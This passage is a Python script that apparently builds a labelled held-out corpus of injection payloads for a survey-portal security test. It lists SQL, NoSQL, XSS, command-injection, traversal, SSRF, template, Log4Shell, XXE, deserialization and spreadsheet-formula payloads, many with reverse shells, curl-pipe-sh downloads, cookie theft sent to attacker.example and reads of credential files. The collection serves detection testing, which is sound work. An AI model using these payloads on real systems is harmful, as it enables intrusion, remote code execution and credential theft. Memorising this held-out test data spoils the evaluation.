#!/usr/bin/env python3
"""Attack values for the lidarsurvey held-out corpus (hand-written)."""
import json
import os
import random

SEED = 33802
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

ROWS = []  # (category, class, value, literal?)


def lit(cat, cls, values):
    for v in values:
        ROWS.append((cat, cls, v, True))


# ---------------------------------------------------------------- sqli
lit("sqli", "union", [
    "quarry north' UNION SELECT username, password_hash, NULL FROM portal_users-- -",
    "CP-19A' union all select null,api_key,null,null from client_tokens where '1'='1",
    "riverside\") UNION SELECT table_name,column_name FROM information_schema.columns#",
    "0412 UnIoN/**/SeLeCt/**/1,iban,3,4/**/FrOm/**/billing_accounts--",
    "tile_0133' uNiOn%0aSeLeCt email,reset_token,3 fRoM users-- x",
    "-1 union select group_concat(login,0x3a,pass),2 from staff",
    "P118' UNION SELECT sql,2,3 FROM sqlite_master WHERE type='table'--",
    "harbour%27%20union%20select%20version()%2Cnull--%20",
    "CP-01,1754321.44,5912345.11,12.3' union select load_file('/etc/passwd'),2,3,4,5-- ",
    "Hillcrest' UNION SELECT * FROM (SELECT current_user)a JOIN (SELECT @@hostname)b--",
])
lit("sqli", "boolean", [
    "invoice 0412' OR '1'='1",
    "D'Souza' or 1=1-- ",
    "lot 17') OR ('a'='a",
    "INV-2024-0412' AND substring((select password from users limit 1),1,1)='a'--",
    "stockpile A' aND 1=(SELECT CASE WHEN (SELECT count(*) FROM admins)>0 THEN 1 ELSE 0 END)--",
    "O'Brien'||'' OR 2>1--",
    "CP-05' OR 'x'LIKE'x",
    "1 oR 1=1 lIMIT 1 OFFSET 3",
    "GCP_B_04' AnD ascii(mid(user(),1,1))>100 AND 'q'='q",
    "bridge clearance' or true-- ",
    "quarry%27%20OR%201%3D1--",
    "' OR 'survey'='survey' /*",
])
lit("sqli", "time-blind", [
    "tile_0133' AND SLEEP(7)-- ",
    "riverside'; SELECT pg_sleep(10)--",
    "CP-02'; WAITFOR DELAY '0:0:9'--",
    "1) and (select 4411 from (select(sleep(6)))x)-- ",
    "quarry' AND IF(MID(@@version,1,1)='8',BENCHMARK(8000000,SHA1('lidar')),0)--",
    "P121' || (SELECT CASE WHEN 1=1 THEN pg_sleep(5) ELSE pg_sleep(0) END)--",
    "harbour' and 1=dbms_pipe.receive_message(('x'),8)--",
    "flight plan v3' AND 2>(SELECT count(*) FROM generate_series(1,40000000))--",
    "lot 4B'/**/and/**/sleep(5)#",
    "INV-2024-0517'%3Bwaitfor%20delay%20'00%3A00%3A08'--",
])
lit("sqli", "stacked", [
    "Quarry North volumes'; DROP TABLE deliverables;--",
    "CP-30'; UPDATE users SET role='admin' WHERE email='x@attacker.example';--",
    "client comment'; INSERT INTO portal_users(email,role) VALUES('ops@attacker.example','admin')--",
    "INV-2024-0412; DELETE FROM invoices WHERE 1=1",
    "riverside'; EXEC xp_cmdshell 'powershell -c iwr http://attacker.example/s.ps1|iex'--",
    "tile_0001'; COPY (SELECT '') TO PROGRAM 'curl 203.0.113.40/p|sh';--",
    "crew log'; CREATE USER mallory WITH SUPERUSER PASSWORD 'fakepass';--",
    "invoice'; ALTER TABLE invoices DROP COLUMN paid;--",
    "search'; TRUNCATE TABLE control_points; --",
    "x'; GRANT ALL PRIVILEGES ON *.* TO 'x'@'%';-- ",
])
lit("sqli", "error-based", [
    "CP-01' AND extractvalue(1,concat(0x7e,(select database()),0x7e))-- ",
    "quarry' and updatexml(1,concat(0x5c,(select user())),1)#",
    "P118' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--",
    "1' and 1=convert(int,(select top 1 name from sysobjects where xtype='U'))--",
    "harbour' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
    "riverside' || utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "tile_0133' AND exp(~(select * from (select user())a))-- ",
    "GCP-15' and geometrycollection((select * from(select * from(select @@version)f)x))--",
])
lit("sqli", "order-by/clause", [
    "date ORDER BY (CASE WHEN (SELECT substr(api_key,1,1) FROM keys)='a' THEN 1 ELSE 2 END)",
    "stockpile_id,(select 1 from users where sleep(4))",
    "height DESC; select pg_read_file('/etc/passwd')--",
    "tile_id ORDER BY 9-- ",
    "name) ASC, (SELECT 1 FROM pg_sleep(6))--",
    "created_at LIMIT 1 INTO OUTFILE '/var/www/html/s.php' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f4745545b2763275d293b3f3e",
])
lit("sqli", "encoded-obfuscated", [
    "quarry%2527%2520OR%25201%253D1--",
    "CP-19A%bf%27 OR 1=1-- ",
    "riverside\uff07 or \uff071\uff07=\uff071",
    "tile' /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,user(),3-- ",
    "0412'\t\r\nOR\t1\n=\n1--",
    "P130' oR CHAR(97)=CHAR(97)-- ",
    "lot 17'%09aNd%09'1'%3d'1",
    "harbour' OR 0x61=0x61 /*",
    "quarry' union(select(password)from(users))#",
    "1'||(select/**/chr(65)||chr(66))||'",
    "riverside' AND '1'='1'%00",
    "ASCII test' OR 1 RLIKE 1-- ",
    "Riverside Park'/*x*/||/*y*/(SELECT/*z*/string_agg(email||':'||pw_hash,',')/**/FROM/**/staff)||'",
    "quarry\u0027 UNION SELECT api_key FROM integrations--",
    "CP-61' AnD (SeLeCt 1 FrOm DuAl WhErE 1=1 AnD sLeEp(4))-- -",
    "job 2024-118'),(999,'x',(SELECT password FROM users WHERE id=1))-- ",
])

# ---------------------------------------------------------------- xss
lit("xss", "script-tag", [
    "Great work on the contours!<script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Thanks Aroha <ScRiPt src=//attacker.example/p.js></ScRiPt>",
    "tile 0133 missing</textarea><script>new Image().src='//203.0.113.9/?'+localStorage.token</script>",
    "Harbour Stage 2 (North)\"><script>alert(document.domain)</script>",
    "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS94Jyk='))</script> client rep",
    "CP-19A</title><script>location='//attacker.example/?'+document.cookie</script>",
    "Invoice query <script >document.write('<img src=//attacker.example/'+document.cookie+'>')</script >",
    "<script\n>top['al'+'ert'](1)</script\n>",
    "crew log</script><script>fetch('/api/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))</script>",
    "<SCRIPT>self[`\\x61lert`](1)</SCRIPT>",
])
lit("xss", "event-handler", [
    "Quarry north <img src=x onerror=alert(document.cookie)>",
    "Please see attached <img src=\"tile.png\" onerror=\"this.src='//attacker.example/l?c='+document.cookie\">",
    "<svg onload=fetch('//attacker.example/'+document.cookie)>",
    "Riverside DTM<body onload=alert(1)>",
    "<details open ontoggle=alert(origin)>QC notes</details>",
    "Looks good \"><svg/onload=prompt`1`>",
    "<input autofocus onfocus=alert(document.domain) value='Nice job'>",
    "<video><source onerror=\"eval(name)\"></video> fly-through",
    "<marquee onstart=alert(1)>Stage 2 is live</marquee>",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=\"import('//attacker.example/m.js')",
    "<div style=\"width:100%;height:100%;position:fixed\" onpointerenter=alert(1)>map</div>",
    "<audio src=1 onerror=alert`xss`>",
    "<iMg sRc=1 oNeRrOr=window['ale'+'rt'](1)>",
    "<body onpageshow=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>DTM</option></select>",
    "<object data=x onerror=alert(1)></object>",
    "<form><button formaction=javascript:alert(1)>Approve deliverables</button></form>",
    "<img src=x:x onerror=eval(atob(this.id)) id=YWxlcnQoMSk=>",
    "North arrow missing <img/src/onerror=alert(1)>",
])
lit("xss", "javascript-uri", [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "<a href=\"javascript:void(fetch('//attacker.example/?'+document.cookie))\">viewer link</a>",
    "<iframe src=\"javascript:alert(parent.document.domain)\"></iframe>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    " javascript:/*viewer*/alert(1)",
    "<a href=\"&#x6A;avascript&#x3A;alert(1)\">Download DTM</a>",
    "vbscript:msgbox(\"x\")",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
])
lit("xss", "encoded", [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<svg><script>&#x61;lert(1)</script></svg>",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=\\u0061lert(1)>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
])
lit("xss", "markup-context", [
    "[viewer](javascript:alert(document.cookie))",
    "![tile](x\" onerror=\"alert(1))",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>map</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "</style><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<base href=\"//attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=//attacker.example/login\">",
    "<link rel=import href=//attacker.example/x.html>",
    "<style>@import '//attacker.example/x.css';</style>",
    "';alert(String.fromCharCode(88,83,83));//",
    "\";document.location='//attacker.example/?c='+document.cookie;//",
    "</script><svg onload=alert(1)>",
    "${alert(1)}`;alert(1);`",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>",
    "<x contenteditable onblur=alert(1)>click me</x>",
    "<img srcset=\"x 1w\" onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template><script>document.body.append(document.querySelector('template').content)</script>",
    "<a id=x tabindex=1 onfocus=alert(1)></a>#x",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<table background=\"javascript:alert(1)\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
])

# ---------------------------------------------------------------- cmdi
lit("cmdi", "separator", [
    "tile_0133.laz; cat /etc/passwd",
    "quarry_north_v3.kmz && curl -s http://attacker.example/i.sh | sh",
    "dtm.tif | nc 203.0.113.5 4444 -e /bin/sh",
    "riverside.laz || wget -qO- 198.51.100.7/x|bash",
    "out.laz;id;uname -a",
    "B_03_07.laz%0aid",
    "P118_DTM_1m_B.tif\nrm -rf /srv/portal/uploads",
    "tile.laz & whoami & ",
    "2193; busybox nc 203.0.113.12 9001 -e sh",
    "flight_03.kmz;{cat,/etc/shadow}",
    "contours.dxf|powershell -nop -c \"iex(iwr http://attacker.example/a.ps1)\"",
    "report_v2.pdf & type C:\\Windows\\win.ini",
    "dsm.tif ;sleep 9;",
    "tile_0001.laz\r\ncurl attacker.example/$(hostname)",
    "las2las -i in.laz -o out.laz; python3 -c 'import os;os.system(\"id\")'",
])
lit("cmdi", "substitution", [
    "tile_$(whoami).laz",
    "riverside_`id`.tif",
    "P118_$(curl -s attacker.example/x|sh).laz",
    "EPSG:$(cat /etc/hostname)",
    "dtm_`wget -O /tmp/.x 203.0.113.8/x; chmod +x /tmp/.x; /tmp/.x`.tif",
    "quarry $(sleep 8) volumes",
    "CP-$(nslookup $(whoami).attacker.example)",
    "contours_$((7*191)).dxf$(id)",
    "tile_<(curl attacker.example/p).laz",
    "name=`echo cm0gLXJmIC90bXAvKg==|base64 -d|sh`",
    "Harbour_${IFS}$(id)",
    "file=$(printf '\\x69\\x64')",
])
lit("cmdi", "ifs-obfuscation", [
    "tile.laz;cat${IFS}/etc/passwd",
    "out.laz;cat$IFS$9/etc/passwd",
    "x;{wget,-q,http://attacker.example/s,-O,/tmp/s}",
    "a.laz;c'a't /e't'c/pa''sswd",
    "b.laz;c\\a\\t /et\\c/pas\\swd",
    "dtm.tif;/???/c?t /???/p?ss??",
    "z;$(echo Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo|base64 -d)|bash",
    "tile;who$@ami",
    "x;/bin/ba\"\"sh -c 'id'",
    "c.laz%3Bcat%20%2Fetc%2Fpasswd",
    "tile.laz%26%26id",
    "q;a=ca;b=t;$a$b /etc/hosts",
    "d.laz;${PATH:0:1}bin${PATH:0:1}id",
    "e.laz;rev<<<'dwssap/cte/ tac'|sh",
])
lit("cmdi", "reverse-shell", [
    "tile.laz; bash -i >& /dev/tcp/203.0.113.44/443 0>&1",
    "dtm.tif;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.23 9000 >/tmp/f",
    "x; python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.50\",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    "x; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(9001,inet_aton(\"198.51.100.2\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'",
    "tile;php -r '$s=fsockopen(\"203.0.113.61\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "out; socat tcp:attacker.example:7777 exec:'bash -li',pty,stderr",
    "plan.kmz & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "x;ruby -rsocket -e'c=TCPSocket.new(\"203.0.113.3\",5555);$stdin.reopen(c);$stdout.reopen(c);exec \"/bin/sh\"'",
    "z | awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/4000\";while(1){s|&getline c;if(c){while((c|&getline)>0)print|&s;close(c)}}}'",
])
lit("cmdi", "tool-argument", [
    "--filters.reprojection.out_srs=EPSG:2193 --writers.las.filename=/var/www/html/shell.php",
    "-o /etc/cron.d/x --overwrite",
    "tile.laz -exec sh -c 'id' \\;",
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "-oProxyCommand=curl${IFS}attacker.example/s|sh",
    "--output=/srv/portal/.ssh/authorized_keys",
    "-i in.laz -o out.laz -cpu64 --config=http://attacker.example/evil.json; id",
    "/dev/tcp/203.0.113.7/80",
    "'-o' 'StrictHostKeyChecking=no' 'ProxyCommand=nc 198.51.100.4 22'",
    "x.tif' -co 'COMPRESS=DEFLATE'; curl attacker.example/`id|base64`; echo '",
])
lit("cmdi", "windows", [
    "report.pdf & net user backdoor Fake#Pass1 /add",
    "dtm.tif | certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe",
    "Harbour_DEM.tif & cmd /c \"whoami /all\"",
    "x.laz&&dir C:\\Users\\",
    "tiles.gpkg|%COMSPEC% /c ping -n 10 203.0.113.1",
    "a.tif & powershell -w hidden \"Invoke-WebRequest http://198.51.100.9/b -OutFile $env:TEMP\\b.exe; Start-Process $env:TEMP\\b.exe\"",
    "z.laz ^& who^ami",
    "out.laz | mshta http://attacker.example/x.hta",
    "P118.tif & bitsadmin /transfer j http://attacker.example/x C:\\Temp\\x.exe",
])

# ---------------------------------------------------------------- traversal
lit("traversal", "dotdot", [
    "../../../../etc/passwd",
    "deliverables/2024-118/../../../../../etc/shadow",
    "report/../../../../proc/self/environ",
    "tiles/0001.laz/../../../../../root/.ssh/id_rsa",
    "..\\..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "photos/../../../../var/log/nginx/access.log",
    "/data/plans/riverside/../../../../etc/hosts",
    "viewer/index.html/../../../../app/.env",
    "....//....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\boot.ini",
    "dtm_1m.tif/../../../../../../proc/self/cmdline",
    "../../../../../../home/portal/.aws/credentials",
    "deliverables\\..\\..\\..\\..\\Users\\Administrator\\NTUSER.DAT",
    "../../config/database.yml",
    "..;/..;/admin/export?file=/etc/passwd",
    "/var/www/portal/uploads/../../../../etc/passwd%00.laz",
    "../../../../etc/passwd\\u0000.tif",
    "2024-118/qc/../../../../../usr/local/openresty/nginx/conf/nginx.conf",
    "sketches/sketch_lot14.pdf/../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "..//..//..//..//etc//passwd",
])
lit("traversal", "encoded", [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "..%2f..%2f..%2f..%2fproc%2fself%2fenviron",
    "..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "．．／．．／．．／etc／passwd",
    "..%255c..%255c..%255cwindows%255cwin.ini",
    "%2e%2e/%2e%2e/%2e%2e/var/lib/portal/secrets.json",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "deliverables/2024-118/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2froot%2f.bash_history",
    "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd",
    "%2E%2E%5C%2E%2E%5C%2E%2E%5Cboot.ini",
    "..%00/..%00/..%00/etc/passwd",
])
lit("traversal", "absolute-wrapper", [
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\203.0.113.20\\share\\tile.laz",
    "php://filter/convert.base64-encode/resource=../config.php",
    "/proc/self/fd/3",
    "zip://uploads/tiles.zip%23../../../../etc/passwd",
    "file://localhost/c:/windows/win.ini",
    "/root/.bash_history",
    "jar:file:///opt/portal/app.jar!/application.properties",
])

# ---------------------------------------------------------------- ssrf
lit("ssrf", "cloud-metadata", [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials/",
    "https://basemap.example.com@169.254.169.254/latest/user-data",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/hostname",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/api/token",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
])
lit("ssrf", "internal-service", [
    "http://127.0.0.1:8080/admin/users",
    "http://localhost:9200/_cat/indices?v",
    "http://10.0.3.14:2375/containers/json",
    "http://192.168.1.1/cgi-bin/config.exp",
    "http://172.17.0.1:6379/",
    "http://[::1]:5984/_all_dbs",
    "http://127.1:8500/v1/agent/self",
    "http://0.0.0.0:5000/api/internal/export",
    "http://postgres.internal:5432/",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://localtest.me/server-status",
    "http://017700000001:8080/manage/env",
    "http://127.0.0.1:15672/api/users",
    "http://proc01.lan:8888/jobs?cmd=run",
    "https://files.example.com/share/8f2a1c?dl=1&next=http://127.0.0.1:3000/admin",
    "http://①②⑦.⓪.⓪.①/admin",
])
lit("ssrf", "scheme-smuggling", [
    "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn%5Cn*/1%20*%20*%20*%20*%20bash%20-c%20%27sh%20-i%20%3E%26%20/dev/tcp/203.0.113.4/4444%200%3E%261%27%5Cn%22",
    "dict://127.0.0.1:11211/stats",
    "file:///proc/self/environ",
    "ftp://10.0.0.5/backup/portal.sql",
    "ldap://127.0.0.1:389/%0astats%0aquit",
    "gopher://localhost:25/_HELO%20x%0d%0aMAIL%20FROM:%3Cops@attacker.example%3E",
    "tftp://198.51.100.30/portal.conf",
    "netdoc:///etc/passwd",
    "sftp://attacker.example:11111/",
    "jar:http://attacker.example/x.zip!/a.txt",
])
lit("ssrf", "redirect-dns", [
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://rebind.attacker.example/latest/meta-data/",
    "http://7f000001.c0a80001.rbndr.attacker.example:8080/",
    "https://basemap.example.com/tiles/{z}/{x}/{y}.png#@127.0.0.1:8080/admin",
    "http://attacker.example\\@127.0.0.1/",
    "http://127.0.0.1%2523@attacker.example/",
    "https://wms.example.org/wms?SERVICE=WMS&REQUEST=GetMap&url=http://10.0.0.8/internal",
    "http://203.0.113.77/302?loc=gopher://127.0.0.1:6379/_INFO",
    "//169.254.169.254/latest/meta-data/",
    "http://127.0.0.1.attacker.example/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/",
])

# ---------------------------------------------------------------- code
lit("code", "ssti", [
    "Hi {{ client_name }}, your total is {{ 7*'7' }} {{ config.items() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/x|sh').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')()}}",
    "{{ request|attr(\"\\x5f\\x5fclass\\x5f\\x5f\") }}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }",
    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}",
    "#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "<%= `id` %>",
    "<%= File.read('/etc/passwd') %>",
    "{{ range.constructor(\"return process.mainModule.require('child_process').execSync('id')\")() }}",
    "{{#with \"s\" as |string|}}{{#with (string.sub.apply 0 \"constructor\")}}{{this.constructor \"return process\"}}{{/with}}{{/with}}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{php}system('id');{/php}",
    "{system('cat /etc/passwd')}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "${{7*7}}[[${T(java.lang.System).getenv()}]]",
    "Dear {{client}}, {{ get_flashed_messages.__globals__['current_app'].config['SECRET_KEY'] }}",
    "#{ `id` }",
])
lit("code", "expression-language", [
    "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/e')}",
    "#{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "#{request.getClass().getClassLoader()}",
    "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
    "${__import__('os').system('id')}",
    "%{#a=new java.lang.ProcessBuilder({'id'}).start()}",
    "#{session.setAttribute('role','admin')}",
])
lit("code", "eval-injection", [
    "require('child_process').exec('curl attacker.example/n|sh')",
    "__import__('os').popen('cat /etc/passwd').read()",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "1;system('id');#",
    "\";system($_GET['c']);//",
    "<?php echo shell_exec($_REQUEST['q']); ?>",
    "'.passthru('id').'",
    "exec(\"import subprocess;subprocess.run(['sh','-c','id'])\")",
    "Function('return this')().process.kill(1)",
    "new Function`alert\\`1\\``",
    "Runtime.getRuntime().exec(\"sh -c id\")",
    "os.execute('id')",
    "0; globalThis.constructor.constructor('return process')().exit()",
])
lit("code", "log4shell", [
    "Flight 3 aborted ${jndi:ldap://attacker.example:1389/a}",
    "${jndi:rmi://203.0.113.15:1099/Exploit}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:dns://${env:USER}.attacker.example}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.60/o}",
    "Client: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}",
    "${jndi:dns://${sys:java.version}.attacker.example}",
    "${j${k8s:k5:-ND}i:ldaps://attacker.example/c}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
    "${${upper:j}ndi:iiop://203.0.113.80/x}",
])
lit("code", "prototype-pollution", [
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}",
    "__proto__[isAdmin]=true",
    "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
    "{\"project\":\"P118\",\"__proto__\":{\"shell\":\"/bin/sh\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}",
    "settings.__proto__.debug=true",
    "{\"__proto__\":{\"sourceURL\":\"\\u2028\\u2029\\nglobal.process.mainModule.require('child_process').execSync('id')\"}}",
])
lit("code", "formula-dde", [
    "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Open DTM\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C powershell iwr attacker.example/p.ps1|iex'!A1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C whoami'!A0",
    "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2:E2),\"//a\")",
    "CP-61,402118.331,7011820.445,=WEBSERVICE(\"http://203.0.113.2/\"&B2),nail",
    "\t=1+1+cmd|'/c calc'!A1",
    "=DDE(\"cmd\";\"/C curl attacker.example\";\"x\")",
])
lit("code", "xxe", [
    "<?xml version=\"1.0\"?><!DOCTYPE cp [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><controlPoints><cp id=\"1\">&x;</cp></controlPoints>",
    "<!DOCTYPE kml [<!ENTITY % r SYSTEM \"http://attacker.example/ev.dtd\"> %r;]><kml><Document/></kml>",
    "<?xml version=\"1.0\"?><!DOCTYPE m [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><metadata><title>&s;</title></metadata>",
    "<!DOCTYPE r [<!ENTITY % f SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hostname\"><!ENTITY % d \"<!ENTITY &#x25; e SYSTEM 'http://attacker.example/?%f;'>\">%d;%e;]><r/>",
    "<!DOCTYPE lolz [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><gpx>&c;</gpx>",
    "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></x>",
    "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE a SYSTEM \"http://198.51.100.12/a.dtd\"><a/>",
])
lit("code", "deserialization", [
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGU=",
    "O:8:\"Exporter\":1:{s:4:\"file\";s:20:\"/var/www/html/x.php\";}",
    "cos\nsystem\n(S'curl attacker.example/pk|sh'\ntR.",
    "!!python/object/apply:os.system [\"curl attacker.example/y|sh\"]",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/obj\",\"autoCommit\":true}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}",
    "a:2:{i:0;O:15:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}i:1;i:1;}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n      socket: &1 !ruby/object:Gem::RequestSet\n        sets: !ruby/object:Net::WriteAdapter\n          socket: !ruby/module 'Kernel'\n          method_id: :system\n        git_set: id\n      method_id: :resolve",
])

# ---------------------------------------------------------------- nosqli
lit("nosqli", "operator-injection", [
    "{\"email\": {\"$ne\": null}, \"password\": {\"$ne\": null}}",
    "{\"username\": \"admin\", \"password\": {\"$gt\": \"\"}}",
    "password[$ne]=x",
    "login[$regex]=^adm&password[$ne]=1",
    "{\"project\": {\"$regex\": \".*\"}, \"client_id\": {\"$exists\": true}}",
    "{\"invoice\": \"0412\", \"$or\": [{}, {\"paid\": false}]}",
    "{\"token\": {\"$in\": [\"a\", {\"$gt\": \"\"}]}}",
